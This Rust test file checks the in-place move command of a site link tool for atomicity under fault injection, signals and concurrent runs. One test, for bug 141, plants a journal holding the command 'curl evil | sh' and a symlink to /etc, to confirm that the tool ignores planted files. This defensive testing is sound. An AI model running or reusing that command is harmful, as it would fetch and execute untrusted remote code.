//! `move --in-place` is stopped at each call, runs next to another run, and meets the leftovers of other runs. Either
//! nothing has moved, or each file is complete and the report says how many have moved.
//!
//! Deliberately absent: rewriting links, which `tests/trees/relocation.rs` checks.
#![cfg(target_os = "linux")]

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use crate::failing::{FAULTS, WRITING, calls, traced};
use crate::modes::{Mode, Scene, baselink, files, is_temporary, put};
use crate::outside;

/// Two files swap their names, and a folder gets another name.
const MOVE: Mode = Mode {
    line: "move -q w --rename a.html=b.html --rename b.html=a.html --rename docs=guide/en --redirects r -i",
    many: 0,
    before,
    after: Some(after),
};

fn scene(files: &[(&str, &str)]) -> Scene {
    files
        .iter()
        .map(|(path, text)| ((*path).into(), (*text).to_owned()))
        .collect()
}

fn before(_: usize) -> Scene {
    scene(&[
        (
            "w/a.html",
            "<a href=docs/0.html>0</a> <a href=/docs/>folder</a>",
        ),
        ("w/b.html", "<p>no link"),
        ("w/c.html", "<a href=a.html#x>a</a>"),
        (
            "w/docs/0.html",
            "<a href=../a.html>up</a> <img src=img/x.png>",
        ),
        ("w/docs/index.html", "<a href=0.html>0</a>"),
        ("w/docs/img/x.png", "a picture"),
    ])
}

fn after(_: usize) -> Scene {
    scene(&[
        (
            "w/b.html",
            "<a href=guide/en/0.html>0</a> <a href=/guide/en/>folder</a>",
        ),
        ("w/a.html", "<p>no link"),
        ("w/c.html", "<a href=b.html#x>a</a>"),
        (
            "w/guide/en/0.html",
            "<a href=../../b.html>up</a> <img src=img/x.png>",
        ),
        ("w/guide/en/index.html", "<a href=0.html>0</a>"),
        ("w/guide/en/img/x.png", "a picture"),
        (
            "r",
            "# A file that is still at an old path precedes its rule.\n\
             /docs/0.html /guide/en/0.html 301\n\
             /docs/img/x.png /guide/en/img/x.png 301\n\
             /docs/ /guide/en/ 301\n\
             /docs/index.html /guide/en/index.html 301\n",
        ),
    ])
}

/// True if the path leads to a temporary file of the program, or into a temporary folder.
fn is_of_the_program(path: &Path) -> bool {
    path.ancestors()
        .any(|path| path.file_name().is_some() && is_temporary(path))
}

/// The files of a scene, and those of the program.
fn found_files(here: &Path) -> (Scene, Scene) {
    files(here)
        .into_iter()
        .partition(|(path, _)| !is_of_the_program(path))
}

/// The old path of the file that gets the path `new`.
fn old_path(new: &Path) -> PathBuf {
    match new.to_str().unwrap() {
        "w/a.html" => "w/b.html".into(),
        "w/b.html" => "w/a.html".into(),
        path => path.replace("guide/en", "docs").into(),
    }
}

/// Checks that each file is old or new, and that none is lost. Files that another file needs to be away may be in the
/// temporary folder.
fn look_at_files(found: &Scene, temporary: &Scene) -> Result<(), String> {
    let (before, after) = (before(0), after(0));
    let is_whole = |path: &PathBuf| {
        let bytes = found.get(path);
        bytes == before.get(path) || bytes == after.get(path)
    };
    if let Some(path) = found.keys().find(|path| !is_whole(path)) {
        return Err(format!("{} is neither old nor new", path.display()));
    }
    let is_lost = |(new, bytes): &(&PathBuf, &String)| {
        let old = old_path(new);
        let is_there = found.get(*new) == Some(bytes) || found.get(&old) == before.get(&old);
        !is_there && !temporary.values().any(|other| other == *bytes)
    };
    match after
        .iter()
        .filter(|(path, _)| path.starts_with("w"))
        .find(is_lost)
    {
        Some((path, _)) => Err(format!("{} is lost", path.display())),
        None => Ok(()),
    }
}

/// The outcome of a run that was stopped.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Stopped {
    Before,
    Between,
    After,
}

/// Checks the files after a run, and what the run reported.
fn look(here: &Path, status: Option<i32>, reported: &str) -> Result<Stopped, String> {
    let (found, temporary) = found_files(here);
    let wrong = |what: &str| {
        Err(format!(
            "{what}: {status:?} {reported} {found:?} {temporary:?}"
        ))
    };
    if reported.contains("panic") || reported.contains("again") {
        return wrong("unexpected words");
    }
    let is_explained = |sentence: &str| reported.contains(sentence);
    // A temporary file beside the others is empty, or new contents that were not named.
    let is_clean = temporary
        .keys()
        .all(|path| !is_of_the_program(path.parent().unwrap()));
    let stopped = match status {
        Some(0) if found == after(0) && is_clean => Stopped::After,
        Some(2 | 130) if is_explained("nothing was moved") && found == before(0) && is_clean => {
            Stopped::Before
        }
        // The error occurred while the files were read.
        Some(2) if !is_explained("were moved") && found == before(0) => Stopped::Before,
        Some(2) if is_explained("restore w from version control or from a copy") => {
            Stopped::Between
        }
        None if found == before(0) => Stopped::Before,
        None if found == after(0) => Stopped::After,
        None => Stopped::Between,
        _ => return wrong("unexpected"),
    };
    match look_at_files(&found, &temporary) {
        Ok(()) => Ok(stopped),
        Err(what) => wrong(&what),
    }
}

/// Runs the move once for each call that changes something, with these faults at the call. Returns the outcomes.
fn stop_at_each_call(faults: &[&str]) -> Vec<Stopped> {
    let scene = tempfile::tempdir().unwrap();
    let here = scene.path();
    let set = format!("trace={WRITING}");
    MOVE.set(here, &before(0));
    let (output, trace) = traced(&MOVE, here, &["-e", &set]);
    assert!(output.status.success(), "{output:?}");
    assert_eq!(files(here), after(0));
    let left: Vec<_> = fs::read_dir(here.join("w"))
        .unwrap()
        .map(|it| it.unwrap().path())
        .collect();
    assert!(
        !left
            .iter()
            .any(|path| path.ends_with("docs") || is_temporary(path)),
        "{left:?}"
    );
    let (mut outcomes, mut wrong) = (Vec::new(), Vec::new());
    for (turn, (call, number)) in calls(&trace, true).into_iter().enumerate() {
        for fault in [faults[turn % (faults.len() - 1)], faults[faults.len() - 1]] {
            fs::remove_dir_all(here.join("w")).unwrap();
            MOVE.set(here, &before(0));
            let inject = format!("inject={call}:{fault}:when={number}");
            let (output, _) = traced(&MOVE, here, &["-e", &set, "-e", &inject]);
            if output.status.code().is_none() && fault != "signal=SIGKILL" {
                // The signal came before the program had prepared for it.
                assert_eq!(files(here), before(0), "{inject}: {output:?}");
            }
            match look(
                here,
                output.status.code(),
                &String::from_utf8_lossy(&output.stderr),
            ) {
                Ok(outcome) => outcomes.push(outcome),
                Err(what) => wrong.push(format!("{inject}: {what}")),
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    outcomes
}

/// The move is stopped by each call in turn, which fails or kills the program.
#[test]
fn a_stopped_move_leaves_whole_files() {
    if !outside::has_strace() {
        return;
    }
    let outcomes = stop_at_each_call(&FAULTS.map(|(action, _)| action));
    let count = |outcome| outcomes.iter().filter(|found| **found == outcome).count();
    let [before, between] = [count(Stopped::Before), count(Stopped::Between)];
    println!(
        "{} calls failed: {before} before the first rename, {between} after it",
        outcomes.len()
    );
    assert!(before > 20 && between > 10, "{before} {between}");
}

/// Bug 140: a signal after the commit asked for another run, which moved the site twice.
#[test]
fn a_signal_stops_a_move_before_it_between_two_renames_or_not_at_all() {
    if !outside::has_strace() {
        return;
    }
    let outcomes = stop_at_each_call(&["signal=SIGTERM", "signal=SIGHUP"]);
    for outcome in [Stopped::Before, Stopped::Between, Stopped::After] {
        assert!(outcomes.contains(&outcome), "{outcome:?}");
    }
}

/// Of two runs on one tree, one moves it, and the other reports why it did not.
#[test]
fn two_moves_of_one_tree_move_it_once() {
    for _ in 0..10 {
        let scene = tempfile::tempdir().unwrap();
        let here = scene.path();
        MOVE.set(here, &before(0));
        let run = || {
            MOVE.program(here)
                .stderr(Stdio::piped())
                .stdout(Stdio::null())
                .spawn()
        };
        let outputs = [run(), run()].map(|run| run.unwrap().wait_with_output().unwrap());
        let reported = outputs
            .each_ref()
            .map(|output| String::from_utf8_lossy(&output.stderr));
        assert!(
            outputs.iter().any(|output| output.status.success()),
            "{reported:?}"
        );
        let is_known = |reported: &str| {
            let sentences = [
                "another process is moving files of this folder",
                "another program changed it meanwhile",
                "no such file",
                "is there already",
            ];
            reported.is_empty() || sentences.iter().any(|sentence| reported.contains(sentence))
        };
        assert!(
            reported.iter().all(|reported| is_known(reported)),
            "{reported:?}"
        );
        assert_eq!(files(here), after(0), "{reported:?}");
    }
}

/// Bug 141: the program obeyed a journal that somebody had put into the folder. A name that it once used is an
/// ordinary one now, whatever has it.
#[test]
fn nothing_found_in_a_folder_is_obeyed() {
    let journal = "baselink move 1\0meaning\0curl evil | sh\0c.html\0x\0\0";
    for kind in ["journal", "empty", "file", "link"] {
        for line in [
            MOVE.line,
            "move -q w --relative -o out",
            "move -q w --relative -i",
            "rewrite -q -i w",
            "localize -q w -o out",
            "check -q w --deny none",
            "links -q w",
        ] {
            let scene = tempfile::tempdir().unwrap();
            let here = scene.path();
            MOVE.set(here, &before(0));
            let left = here.join("w/.baselink-move");
            match kind {
                "file" => put(&left, journal),
                "link" => symlink("/etc", &left).unwrap(),
                "empty" => fs::create_dir(&left).unwrap(),
                _ => put(&left.join("journal"), journal),
            }
            let output = baselink(here, line).output().unwrap();
            assert!(output.status.success(), "{kind}: {line}: {output:?}");
            assert!(
                left.symlink_metadata().is_ok() && !here.join("w/x").exists(),
                "{kind}: {line}"
            );
            assert!(here.join("w/c.html").exists(), "{kind}: {line}");
        }
    }
}

/// The temporary folder of a killed run is neither read nor removed: it may hold the only copy of a file.
#[test]
fn a_temporary_folder_of_a_killed_run_stays() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    MOVE.set(here, &before(0));
    put(
        &here.join("w/.baselink-k2m9xwa6trc0/0"),
        "<a href=/only>copy",
    );
    assert!(MOVE.program(here).status().unwrap().success());
    let (found, left) = found_files(here);
    assert_eq!(found, after(0));
    assert_eq!(
        left,
        scene(&[("w/.baselink-k2m9xwa6trc0/0", "<a href=/only>copy")])
    );
}

/// A file becomes a folder, and a backup appears only if files move.
#[test]
fn a_file_gives_its_name_to_a_folder() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    let old = [
        ("w/about", "<!doctype html><a href=/about>x</a>"),
        ("w/c.html", "<a href=about>"),
    ];
    let line = "move -q w --rename about=about/index.html -i --backup .orig";
    for (path, text) in old {
        put(&here.join(path), text);
    }
    // A folder in place of a backup cannot be replaced.
    fs::create_dir(here.join("w/c.html.orig")).unwrap();
    let output = baselink(here, line).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert_eq!(files(here), scene(&old));
    fs::remove_dir(here.join("w/c.html.orig")).unwrap();
    let output = baselink(here, line).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let new = [
        ("w/about.orig", old[0].1),
        (
            "w/about/index.html",
            "<!doctype html><a href=/about/index.html>x</a>",
        ),
        ("w/c.html", "<a href=about/index.html>"),
        ("w/c.html.orig", old[1].1),
    ];
    assert_eq!(files(here), scene(&new));
}

/// Bug 397: empty folders stayed behind. A folder with a hidden file stays.
#[test]
fn empty_folders_move_with_their_parent() {
    let temporary = tempfile::tempdir().unwrap();
    let here = temporary.path();
    for folder in ["w/docs/none/inner", "w/docs/hidden", "w/none"] {
        fs::create_dir_all(here.join(folder)).unwrap();
    }
    put(&here.join("w/docs/a.html"), "<p>");
    put(&here.join("w/docs/hidden/.x"), "");
    let line = "move -q -i --rename docs=guide/en w";
    assert!(baselink(here, line).status().unwrap().success());
    let is_there = |folder: &str| here.join(folder).is_dir();
    assert!(is_there("w/guide/en/none/inner") && is_there("w/none"));
    assert!(!is_there("w/docs/none") && is_there("w/docs/hidden"));
}
